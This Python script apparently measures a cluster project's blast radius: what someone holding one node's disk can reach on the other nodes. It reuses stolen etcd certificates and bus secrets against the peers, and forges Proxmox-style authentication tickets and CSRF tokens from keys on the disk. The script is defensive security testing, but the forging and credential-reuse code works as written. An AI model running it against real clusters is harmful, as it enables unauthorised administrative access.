#!/usr/bin/python3
"""What somebody can do with the disk of a node: runs in the node's namespaces, tries everything, prints what worked.

usage: intruder.py FOLDER NODE=ADDRESS...      FOLDER: the node's state; a ticket of somebody else comes on stdin
"""
import base64
import glob
import hashlib
import hmac
import http.client
import json
import os
import shutil
import sqlite3
import ssl
import subprocess
import sys
import tempfile
import time
import urllib.parse

import zmq
import zmq.utils.monitor
from zmq.utils import z85
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding

USER = "admin@pve"
# 8100 + 2n (docs/decisions/0010)
SERVICES = {"config-store": 0, "compute-agent": 1, "storage-agent": 2, "sdn-agent": 3, "ha-crm": 4, "ha-lrm": 5,
            "backup-agent": 6, "api-gateway": 7}


def varint(data, at):
    value, shift = 0, 0
    while True:
        value |= (data[at] & 0x7f) << shift
        shift += 7
        at += 1
        if data[at - 1] < 0x80:
            return value, at


def fields(data):
    """Number and value of each field of a protobuf message; strings and messages as bytes."""
    at = 0
    while at < len(data):
        key, at = varint(data, at)
        value, at = varint(data, at)
        if key & 7 == 2:
            value, at = data[at:at + value], at + value
        yield key >> 3, value


class Intruder:
    def __init__(self, folder, peers):
        self.folder = folder
        self.store = os.path.join(folder, "config-store")
        self.peers = peers
        with tempfile.TemporaryDirectory() as copy:  # the node's own may be in use
            for name in ("last.db", "last.db-wal"):
                if os.path.exists(os.path.join(self.store, name)):
                    shutil.copy(os.path.join(self.store, name), copy)
            with sqlite3.connect(os.path.join(copy, "last.db")) as db:
                self.tree = dict(db.execute("SELECT path, bytes FROM tree"))

    # --- etcd ---

    def etcdctl(self, address, *words):
        etcd = os.path.join(self.store, "etcd")
        done = subprocess.run(
            ["etcdctl", "--endpoints", f"{address}:2379", "--cacert", f"{etcd}/ca.pem", "--cert", f"{etcd}/node.pem",
             "--key", f"{etcd}/node.key", "--dial-timeout", "2s", "--command-timeout", "2s", *words],
            env={**os.environ, "ETCDCTL_API": "3"}, capture_output=True, text=True, check=False, timeout=30)
        return done.returncode == 0 and bool(done.stdout.strip())

    def etcd(self):
        for node, address in self.peers.items():
            yield f"etcd get {node}", self.etcdctl(address, "get", "/atoll/root")
            yield f"etcd put {node}", self.etcdctl(address, "put", "/intruder", "was here")
            yield f"etcd members {node}", self.etcdctl(address, "member", "list")

    # --- the bus ---

    def public_keys(self, node):
        record = self.tree[f".state/directory/{node}"]
        lines = [dict(fields(value)) for number, value in fields(record) if number == 3]
        return {line[1].decode(): line[2] for line in lines}

    @staticmethod
    def shakes_hands(address, port, server_key, secret):
        """Does the listener take our key? It tells by the end of the handshake."""
        context = zmq.Context()
        socket = context.socket(zmq.DEALER)
        socket.linger = 0
        socket.curve_secretkey = secret
        socket.curve_publickey = zmq.curve_public(secret)
        socket.curve_serverkey = z85.encode(server_key)
        monitor = socket.get_monitor_socket()
        monitor.linger = 0
        socket.connect(f"tcp://{address}:{port}")
        result = None
        end = time.monotonic() + 3
        while result is None and monitor.poll(max(0, int((end - time.monotonic()) * 1000))):
            event = zmq.utils.monitor.recv_monitor_message(monitor)["event"]
            if event == zmq.EVENT_HANDSHAKE_SUCCEEDED:
                result = True
            elif event in (zmq.EVENT_HANDSHAKE_FAILED_AUTH, zmq.EVENT_HANDSHAKE_FAILED_PROTOCOL,
                           zmq.EVENT_HANDSHAKE_FAILED_NO_DETAIL):
                result = False
        socket.disable_monitor()
        monitor.close()
        socket.close()
        context.term()
        return bool(result)

    def bus(self):
        secrets = {}
        for path in glob.glob(os.path.join(self.folder, "**", "bus.key"), recursive=True):
            with open(path, "rb") as file:
                secrets[os.path.basename(os.path.dirname(path))] = file.read().strip()
        assert len(secrets) >= 4, secrets.keys()
        for node, address in self.peers.items():
            for service, key in self.public_keys(node).items():
                for mine, secret in secrets.items():
                    port = 8100 + 2 * SERVICES[service]
                    yield f"bus {mine} to {service}@{node}", self.shakes_hands(address, port, key, secret)

    # --- REST ---

    def request(self, address, method, path, ticket, csrf=None):
        context = ssl.create_default_context()
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        connection = http.client.HTTPSConnection(address, 8006, timeout=10, context=context)
        headers = {"Cookie": "PVEAuthCookie=" + urllib.parse.quote(ticket)}
        if csrf:
            headers |= {"CSRFPreventionToken": csrf, "Content-Type": "application/x-www-form-urlencoded"}
        body = urllib.parse.urlencode({"poolid": f"intruder-{time.monotonic_ns()}"}) if method == "POST" else None
        connection.request(method, "/api2/json" + path, body, headers)
        return connection.getresponse().status

    def forged_ticket(self):
        key = serialization.load_pem_private_key(self.tree["priv/authkey.key"], None)
        text = f"PVE:{USER}:{int(time.time()):08X}"
        signature = key.sign(text.encode(), padding.PKCS1v15(), hashes.SHA256())
        return f"{text}::{base64.b64encode(signature).decode()}"

    def forged_csrf(self):
        stamp = f"{int(time.time()):08X}"
        made = hmac.new(self.tree["priv/csrf.key"], f"{stamp}:{USER}".encode(), hashlib.sha256).digest()
        return f"{stamp}:{base64.b64encode(made).decode()}"

    def rest(self, other_ticket):
        for node, address in self.peers.items():
            yield f"ticket {node}", self.request(address, "GET", "/access/users", self.forged_ticket()) == 200
            yield f"csrf {node}", self.request(address, "POST", "/pools", other_ticket, self.forged_csrf()) == 200


def main():
    folder, *peers = sys.argv[1:]
    intruder = Intruder(folder, dict(peer.split("=") for peer in peers))
    other_ticket = sys.stdin.readline().strip()
    print(json.dumps({what: worked for tries in (intruder.etcd(), intruder.bus(), intruder.rest(other_ticket))
                      for what, worked in tries}))


if __name__ == "__main__":
    main()
